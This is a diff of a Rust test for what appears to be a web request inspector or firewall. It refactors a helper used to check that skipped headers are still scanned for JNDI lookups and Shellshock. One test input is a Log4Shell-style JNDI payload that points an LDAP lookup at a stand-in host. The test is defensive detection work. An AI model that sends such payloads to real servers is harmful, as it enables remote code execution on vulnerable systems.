@@ -1060,17 +1060,7 @@ proptest! {
 fn skipped_headers_are_checked_for_lookups_and_shellshock() {
     let p = balanced();
     let get_with = |name: &'static str, value: &str| {
-        let h = headers(&[("user-agent", "Mozilla/5.0"), (name, value)]);
-        inspect_head(
-            &p,
-            &RequestHead {
-                method: &Method::GET,
-                path: "/",
-                query: None,
-                headers: &h,
-                route: "r",
-            },
-        )
+        common::get_with_headers(&p, &[("user-agent", "Mozilla/5.0"), (name, value)])
     };
     for (name, value, class) in [
         ("accept", "${jndi:ldap://x.example/a}", Class::Java),
